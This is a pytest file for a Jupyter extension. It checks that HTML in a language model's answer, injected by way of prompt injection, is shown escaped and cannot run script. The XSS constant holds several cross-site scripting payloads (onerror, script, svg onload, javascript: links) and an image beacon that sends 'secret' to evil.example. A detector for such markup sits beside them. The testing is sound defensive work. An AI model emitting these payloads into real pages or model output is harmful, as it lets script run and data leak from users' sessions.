"""Attack: HTML in a model's answer, steered by prompt injection, runs script on Jupyter's origin.

JupyterLab renders the Markdown and HTML outputs of cells run in the session as trusted, so
the %%ask cell may only ever show HTML the kernel rendered and sanitised itself. The
browser side (cell and panel) is tests/ui/test_lab.py's XSS test.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from jupyter_ci.kernel.safe_markdown import bundle, to_html
from tests.fakellm import FakeLLM, Turn
from tests.kernelrun import Kernel
from tests.nbrun import openai_env

XSS = ('Here you go. <img src=x onerror="window.__xss=1"> <script>window.__xss=2</script>\n\n'
       '<svg onload="window.__xss=3"></svg> [click](javascript:window.__xss=4) '
       '<a href="javascript:window.__xss=5">x</a> <iframe src="javascript:1"></iframe>\n\n'
       '![beacon](https://evil.example/pixel.png?data=secret) <style>*{display:none}</style>')
LIVE_TAGS = {"script", "svg", "iframe", "style", "object", "embed", "math", "form", "base"}


class Elements(HTMLParser):
    """Collect the elements a browser would build from an HTML string (escaped text is not)."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {k: v or "" for k, v in attrs}))


def live_parts(html: str) -> list[str]:
    """Name whatever in this HTML could run script or reach another site."""
    problems = []
    for tag, attrs in Elements(html).found:
        if tag in LIVE_TAGS:
            problems.append(f"<{tag}>")
        for name, value in attrs.items():
            if name.startswith("on") or value.strip().lower().startswith("javascript:"):
                problems.append(f"{tag} {name}={value}")
            if tag == "img" and name == "src" and re.match(r"\w+:|//", value) and \
                    not value.startswith("data:image/"):  # inline image data loads nothing
                problems.append(f"remote image {value}")
    return problems


@pytest.fixture
def kernel(fake: FakeLLM, tmp_path: Path) -> Iterator[Kernel]:
    k = Kernel(openai_env(fake), str(tmp_path))
    assert k.execute("%load_ext jupyter_ci").reply["content"]["status"] == "ok"
    yield k
    k.close()


def html_shown(data: list[dict[str, Any]]) -> list[str]:
    """Every HTML or Markdown a frontend would render from these display bundles."""
    return [str(d.get(mime, "")) for d in data for mime in ("text/html", "text/markdown")
            if mime in d]


@pytest.mark.parametrize("frontend", [False, True], ids=["inline", "labextension"])
def test_an_answer_full_of_html_shows_none_of_it_live(
    fake: FakeLLM, kernel: Kernel, frontend: bool
) -> None:
    fake.push(Turn(tool_calls=[("run_python", {"code": "x = 1"})], text=XSS), Turn(XSS))
    meta = {"jupyter_ci_frontend": {"protocol": 2, "generated": []}, "cellId": "c"} \
        if frontend else {}
    run = kernel.execute("%%ask\nsummarise", meta)
    data = [m["content"]["data"] for m in run.of_type("display_data", "update_display_data")]
    rendered = html_shown(data)
    assert rendered and all("text/markdown" not in d for d in data)
    for html in rendered:
        assert live_parts(html) == [], html
    # The words are still there, as text.
    assert any("Here you go." in html and "&lt;img" in html for html in rendered)
    assert "window.__xss=1" in json.dumps(data)  # shown escaped, not dropped


def test_the_checker_sees_live_html() -> None:
    # What the kernel displayed before: the answer as Markdown, which JupyterLab renders
    # with its raw HTML live in a trusted cell.
    assert live_parts(XSS) != [] and len(live_parts(XSS)) >= 6


def test_ordinary_markdown_still_renders() -> None:
    html = to_html("**Revenue** by region:\n\n| region | total |\n|---|---|\n| N | 4 |\n\n"
                   "```python\nprint('<b>')\n```\n\nSee [the docs](https://jupyter.org) and "
                   "![plot](plot.png).")
    assert "<strong>Revenue</strong>" in html and "<td>4</td>" in html
    assert "print(&#39;&lt;b&gt;&#39;)" in html or "print('&lt;b&gt;')" in html
    assert '<a href="https://jupyter.org"' in html and '<img src="plot.png"' in html
    assert bundle("a < b")["text/plain"] == "a < b"
